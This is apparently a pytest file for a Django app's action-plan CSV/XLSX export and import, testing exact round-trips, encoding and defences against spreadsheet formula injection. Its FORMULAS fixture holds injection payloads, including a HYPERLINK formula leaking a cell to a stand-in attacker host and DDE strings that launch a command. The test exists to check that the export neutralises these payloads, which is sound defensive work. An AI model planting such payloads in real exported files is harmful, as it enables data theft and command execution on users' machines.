"""Exporting a plan to the template, and importing the export back, which recreates it exactly."""

import csv
import io

import pytest
from openpyxl import load_workbook

from actions.models import Action, ActionPlan
from actions.services import export_plan, import_plan_file
from actions.services.plan_template import COLUMNS, group_path

from .conftest import TNOC_PLAN, TSOC_PLAN

pytestmark = pytest.mark.usefixtures("seeded")


def snapshot(plan: ActionPlan) -> dict:
    """Everything the template carries about a plan's actions and groups."""
    groups = {group.pk: group for group in plan.groups.all()}
    actions = Action.objects.filter(plan=plan).with_plan_details().order_by("sort_key")
    return {
        "groups": [
            group_path(group, groups) for group in sorted(groups.values(), key=lambda g: g.order)
        ],
        "actions": [
            {
                "kind": action.kind,
                "number": action.number,
                "parent": action.parent.number if action.parent else "",
                "group": group_path(action.group, groups),
                **{
                    name: getattr(action, name)
                    for name in (
                        "title",
                        "description",
                        "resourcing",
                        "timeframe",
                        "starts_on",
                        "ends_on",
                        "is_ongoing",
                        "timeframe_unparsed",
                    )
                },
                "priority_areas": [area.slug for area in action.priority_areas.all()],
                "focus_areas": [area.slug for area in action.focus_areas.all()],
                "coordinators": [
                    (c.agency.slug, c.role, c.order) for c in action.coordinators.all()
                ],
                "measures": [(m.statement, m.order) for m in action.success_measures.all()],
            }
            for action in actions
        ],
    }


def exported(plan_slug: str, file_format: str) -> io.BytesIO:
    output = io.BytesIO()
    export_plan(ActionPlan.objects.get(slug=plan_slug), output, format=file_format)
    output.seek(0)
    return output


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("plan_slug", [TSOC_PLAN, TNOC_PLAN])
def test_an_exported_plan_imports_into_a_new_plan_exactly(plan_slug, file_format):
    original = ActionPlan.objects.get(slug=plan_slug)
    result = import_plan_file(
        exported(plan_slug, file_format),
        plan_slug="round-trip",
        strategy_slug=original.strategy.slug,
        filename=f"export.{file_format}",
    )
    assert result.created == original.actions.filter(kind=Action.Kind.ACTION).count()
    assert not result.warnings
    copy = ActionPlan.objects.get(slug="round-trip")
    assert snapshot(copy) == snapshot(original)


def test_an_exported_plan_imports_back_into_itself_without_a_change():
    history = Action.history.count()
    result = import_plan_file(exported(TSOC_PLAN, "csv"), plan_slug=TSOC_PLAN, filename="x.csv")
    assert (result.created, result.updated, result.unchanged) == (0, 0, 28)
    assert Action.history.count() == history


def test_the_csv_export_is_utf8_with_a_byte_order_mark_for_excel():
    data = exported(TSOC_PLAN, "csv").getvalue()
    assert data.startswith(b"\xef\xbb\xbfnumber,parent,title,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row["number"] for row in rows][:6] == ["1", "2", "3", "4", "4a", "4b"]
    sub_action = next(row for row in rows if row["number"] == "13a")
    assert sub_action["parent"] == "13"
    assert sub_action["group"] == "Second priority actions"
    # The source names coordinating agencies, never a lead: they coordinate jointly.
    assert sub_action["coordinating_agencies"] == (
        "Ministry of Business, Innovation and Employment\nMinistry of Justice"
    )
    assert sub_action["lead_agencies"] == sub_action["supporting_agencies"] == ""
    first = rows[0]
    assert first["group"] == "First priority actions › Dedicated and accountable oversight"
    assert first["coordinating_agencies"] == (
        "[Developing a Department or Agency] New Zealand Customs Service\n"
        "[Developing a Department or Agency] New Zealand Police\n"
        "[Data and Information Sharing] TSOC Department/Agency"
    )
    assert "1 strand 1" not in [row["number"] for row in rows]  # strands are cells, not rows


def test_the_xlsx_export_keeps_every_cell_as_text():
    action = Action.objects.get(plan__slug=TSOC_PLAN, number="18")
    action.title = '=HYPERLINK("http://example.com")'
    action.save()
    sheet = load_workbook(exported(TSOC_PLAN, "xlsx")).active
    assert [cell.value for cell in sheet[1]] == [*COLUMNS, "assumptions"]
    titles = {row[0].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert titles["18"].value == '=HYPERLINK("http://example.com")'
    assert titles["18"].data_type == "s"


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "description": '+1+cmd|" /C calc"!A0',
    "resourcing": "-2+3+cmd|' /C calc'!A0",
    "timeframe": "@SUM(1+1)",
}


def with_formulas(number: str = "18") -> Action:
    action = Action.objects.get(plan__slug=TSOC_PLAN, number=number)
    for name, text in FORMULAS.items():
        setattr(action, name, text)
    action.save()
    return action


def test_the_csv_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula():
    with_formulas()
    action = Action.objects.get(plan__slug=TSOC_PLAN, number="7")
    action.title = "'=already quoted by hand"
    action.save()
    data = exported(TSOC_PLAN, "csv").getvalue().decode("utf-8-sig")
    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(data, newline=""))}
    assert {name: rows["18"][name] for name in FORMULAS} == {
        name: "'" + text for name, text in FORMULAS.items()
    }
    assert rows["7"]["title"] == "''=already quoted by hand"
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_text_that_looks_like_a_formula_survives_the_round_trip_exactly(file_format):
    with_formulas()
    quoted = Action.objects.get(plan__slug=TSOC_PLAN, number="7")
    quoted.title = "'=already quoted by hand"
    quoted.description = "'plain text after a quote"
    quoted.save()
    import_plan_file(
        exported(TSOC_PLAN, file_format), plan_slug="copy", filename=f"x.{file_format}"
    )
    copy = ActionPlan.objects.get(slug="copy")
    assert snapshot(copy) == snapshot(ActionPlan.objects.get(slug=TSOC_PLAN))
    assert copy.actions.get(number="18").title == FORMULAS["title"]


def test_a_single_success_measure_containing_a_semicolon_survives_the_round_trip():
    action = Action.objects.get(plan__slug=TSOC_PLAN, number="7")
    measure = action.success_measures.get()
    measure.statement = "Money laundering is disrupted; assets are restrained."
    measure.save()
    import_plan_file(exported(TSOC_PLAN, "csv"), plan_slug="copy", filename="x.csv")
    copy = Action.objects.get(plan__slug="copy", number="7")
    assert [m.statement for m in copy.success_measures.all()] == [measure.statement]


def test_an_unknown_export_format_is_refused():
    with pytest.raises(ValueError, match="format must be one of"):
        export_plan(ActionPlan.objects.get(slug=TSOC_PLAN), io.BytesIO(), format="pdf")
